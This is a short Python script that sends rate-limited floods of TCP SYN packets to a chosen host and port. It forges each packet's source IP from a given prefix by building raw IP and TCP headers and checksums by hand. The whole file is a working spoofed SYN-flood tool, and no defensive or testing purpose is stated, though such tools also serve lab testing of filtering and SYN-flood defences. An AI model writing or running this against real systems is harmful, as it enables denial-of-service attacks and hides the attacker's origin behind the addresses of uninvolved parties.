"""SYNs whose source addresses are not the sender's: random in a prefix.   spoof.py PREFIX TARGET PORT COUNT PER-SECOND"""
import ipaddress, random, socket, struct, sys, time

prefix, target, port, count, rate = ipaddress.ip_network(sys.argv[1]), sys.argv[2], *map(int, sys.argv[3:6])
rng = random.Random(1)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
there = socket.inet_aton(target)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


began = time.time()
for i in range(count):
    source = prefix[rng.randrange(prefix.num_addresses)].packed
    tcp = struct.pack(">HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    check = checksum(source + there + struct.pack(">BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack(">H", check) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, rng.getrandbits(16), 0, 64, 6, 0, source, there)
    raw.sendto(ip + tcp, (target, 0))
    time.sleep(max(0, began + (i + 1) / rate - time.time()))
print("sent", count, "in", round(time.time() - began, 2), "s")
